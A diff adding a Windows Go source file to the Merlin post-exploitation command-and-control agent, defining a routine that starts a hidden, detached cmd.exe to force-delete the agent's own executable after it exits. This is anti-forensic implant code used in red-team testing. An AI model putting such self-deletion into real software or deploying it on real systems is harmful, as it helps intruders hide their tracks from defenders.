@@ -0,0 +1,49 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+)
+
+// removeExecutable starts a hidden command shell that deletes the agent's executable after the agent exits because
+// Windows does not allow a running executable to be deleted. An agent DLL loaded by a system program is not deleted.
+func removeExecutable(exe string) error {
+	switch strings.ToLower(filepath.Base(exe)) {
+	case "rundll32.exe", "regsvr32.exe":
+		return fmt.Errorf("the agent is running in %s and its DLL was not deleted", filepath.Base(exe))
+	}
+	// #nosec G204 the path is the agent's own executable
+	cmd := exec.Command("cmd.exe")
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		HideWindow:    true,
+		CmdLine:       fmt.Sprintf(`cmd.exe /c ping -n 4 127.0.0.1 > nul & del /f /q "%s"`, exe),
+		CreationFlags: 0x00000008, // DETACHED_PROCESS
+	}
+	if err := cmd.Start(); err != nil {
+		return fmt.Errorf("there was an error starting the command to delete the executable:\r\n%s", err.Error())
+	}
+	return cmd.Process.Release()
+}